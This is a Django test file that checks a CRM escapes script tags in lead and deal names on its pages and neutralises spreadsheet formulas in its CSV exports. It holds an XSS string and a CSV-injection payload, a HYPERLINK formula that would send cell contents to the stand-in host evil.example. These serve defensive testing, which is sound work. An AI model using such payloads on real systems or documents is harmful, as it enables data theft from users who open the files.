"""Hostile text in names: HTML/JS renders escaped on every page that shows a lead or the deal made
from it, and spreadsheet formulas are neutralised in every CSV export (crm/csv_export.py writes
them all), whether the text sits in a string column or behind an object's name (owner, stage)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from crm.csv_export import safe_cell
from leads.models import Lead
from leads.services import convert_lead
from pipeline.models import Stage
from pipeline.services import create_opportunity
from tests.factories import LeadFactory, PipelineFactory, UserFactory

pytestmark = pytest.mark.django_db

XSS = "<script>alert(1)</script>"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def export_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.fixture
def hostile_lead(rep):
    """A lead whose every name field is a script, converted into a deal on the board."""
    pipeline = PipelineFactory(is_default=True)
    lead = LeadFactory(
        owner=rep,
        first_name=XSS,
        last_name=XSS,
        company=XSS,
        title=XSS,
        budget_note=XSS,
        stage=Lead.Lifecycle.SQL,
        **{f"{item}_confirmed": True for item in Lead.BANT},
    )
    deal = convert_lead(lead=lead, by=rep, pipeline=pipeline, name=XSS, amount=Decimal("5000"))
    return lead, deal


def test_html_in_a_lead_renders_escaped_on_the_list_detail_board_and_deal_pages(
    client, rep, hostile_lead
):
    lead, deal = hostile_lead
    client.force_login(rep)
    pages = [
        (reverse("leads:list"), {}),
        (reverse("leads:list"), {"HX-Request": "true"}),  # the table fragment
        (reverse("leads:list") + "?q=script", {}),
        (reverse("leads:detail", args=[lead.pk]), {}),
        (reverse("pipeline:board", args=[deal.pipeline_id]), {}),
        (reverse("pipeline:opportunity", args=[deal.pk]), {}),
    ]
    for url, headers in pages:
        response = client.get(url, headers=headers)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert XSS not in html, url
        assert ESCAPED in html, url


def test_a_formula_in_a_lead_is_neutralised_in_the_leads_export(client, rep):
    LeadFactory(
        owner=rep,
        first_name=FORMULA,
        last_name="+1+1",
        company="@SUM(A1:A9)",
        title="-2+3",
        phone="\t=1+1",
        email="formula@x.example",
    )
    client.force_login(rep)
    response = client.get(reverse("leads:export"))
    assert response["X-Content-Type-Options"] == "nosniff"
    header, row = export_rows(response)
    cells = dict(zip(header, row, strict=True))
    assert cells["first_name"] == "'" + FORMULA
    assert cells["last_name"] == "'+1+1"
    assert cells["company"] == "'@SUM(A1:A9)"
    assert cells["title"] == "'-2+3"
    assert cells["phone"] == "'\t=1+1"
    assert cells["email"] == "formula@x.example"


def test_a_formula_behind_an_owner_or_stage_name_is_neutralised_in_the_forecast_export(
    client, manager, org
):
    # given a rep who named themselves with a formula, in a stage named like one
    rep = UserFactory(username="rep_eve", role="rep", team=org["team_a"], first_name=FORMULA)
    pipeline = PipelineFactory()
    stage = Stage.objects.get(pipeline=pipeline, name="Proposal")
    Stage.objects.filter(pk=stage.pk).update(name="@cmd")
    create_opportunity(
        by=rep,
        name=FORMULA,
        pipeline=pipeline,
        stage=Stage.objects.get(pk=stage.pk),
        amount=Decimal("5000"),
        expected_close_date=date(2026, 11, 15),
    )
    client.force_login(manager)
    # when the manager exports the rep's deals
    response = client.get(
        reverse("forecasting:forecast"), {"period": "2026-Q4", "user": rep.pk, "export": "deals"}
    )
    # then no cell starts a formula, whatever object it came from
    header, row = export_rows(response)
    cells = dict(zip(header, row, strict=True))
    assert cells["deal"] == "'" + FORMULA
    assert cells["owner"].startswith("'=HYPERLINK(")
    assert cells["stage"] == "'@cmd"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (UserFactory.build(first_name="=1+1", last_name="x"), "'=1+1 x"),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (True, True),
        (date(2026, 1, 2), date(2026, 1, 2)),
    ],
    ids=["object-with-formula-name", "decimal", "int", "bool", "date"],
)
def test_safe_cell_neutralises_any_text_but_keeps_numbers_and_dates(value, expected):
    assert safe_cell(value) == expected
